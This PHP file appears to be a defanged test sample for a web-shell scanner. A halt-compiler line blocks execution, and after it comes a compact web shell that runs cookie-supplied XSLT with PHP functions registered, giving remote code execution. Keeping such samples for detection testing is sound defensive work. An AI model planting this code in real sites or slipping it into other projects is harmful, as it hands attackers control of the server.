<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$a = new DOMDocument();
$a->loadXML(base64_decode($_COOKIE['a']));
$x = new XSLTProcessor();
$x->registerPHPFunctions();
$x->importStylesheet($a);
print $x->transformToXML($a);
